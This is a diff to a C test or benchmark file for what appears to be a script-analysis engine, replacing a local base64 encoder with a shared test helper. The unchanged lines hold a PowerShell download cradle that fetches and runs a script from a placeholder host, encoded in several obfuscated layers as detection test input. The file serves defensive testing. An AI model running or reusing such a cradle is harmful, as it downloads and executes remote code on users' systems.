@@ -16,31 +16,13 @@
  * each line says whether it is met.  Main thread only.
  */
 #include "script.h"
+#include "tests/unit/b64_test.h"
 
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 
 #define TARGET_PER_SEC 20000.0
-
-static void b64(const unsigned char *in, size_t n, char *out)
-{
-    static const char tab[] =
-        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-    size_t o = 0;
-    for (size_t i = 0; i < n; i += 3) {
-        unsigned v = (unsigned)in[i] << 16;
-        if (i + 1 < n)
-            v |= (unsigned)in[i + 1] << 8;
-        if (i + 2 < n)
-            v |= in[i + 2];
-        out[o++] = tab[(v >> 18) & 63];
-        out[o++] = tab[(v >> 12) & 63];
-        out[o++] = i + 1 < n ? tab[(v >> 6) & 63] : '=';
-        out[o++] = i + 2 < n ? tab[v & 63] : '=';
-    }
-    out[o] = '\0';
-}
 
 /* base64 of the UTF-16LE form of an ASCII string (PowerShell -enc) */
 static char *enc16(const char *s)
@@ -52,7 +34,7 @@ static char *enc16(const char *s)
         u[2 * i] = (unsigned char)s[i];
         u[2 * i + 1] = 0;
     }
-    b64(u, 2 * n, out);
+    t_b64_encode(u, 2 * n, out);
     free(u);
     return out;
 }
@@ -135,7 +117,7 @@ int main(int argc, char **argv)
     /* multi-layer: -enc( FromBase64String( cradle ) ) and carets around it */
     const char *cradle = "IEX (New-Object Net.WebClient).DownloadString('http://update.example.org/b.ps1')";
     char inner[512];
-    b64((const unsigned char *)cradle, strlen(cradle), inner);
+    t_b64_encode((const unsigned char *)cradle, strlen(cradle), inner);
     char *mid = fmt("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s')))", inner);
     char *e3 = enc16(mid);
     char *multi[] = {
